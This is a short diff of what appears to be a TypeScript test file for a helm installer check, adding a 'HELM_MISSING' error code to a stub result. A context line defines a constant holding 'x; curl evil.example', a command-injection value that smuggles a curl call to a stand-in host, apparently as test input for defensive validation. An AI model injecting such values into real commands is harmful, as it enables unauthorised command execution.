@@ -16,7 +16,12 @@ const hostile = 'x; curl evil.example';
 
 const nobody: Installer = {
   name: 'nobody',
-  ready: async () => ({ ok: false, message: 'There is no helm on the PATH.', hint: 'Install helm.' }),
+  ready: async () => ({
+    ok: false,
+    code: 'HELM_MISSING',
+    message: 'There is no helm on the PATH.',
+    hint: 'Install helm.',
+  }),
   carryOut: async () => {},
 };
 
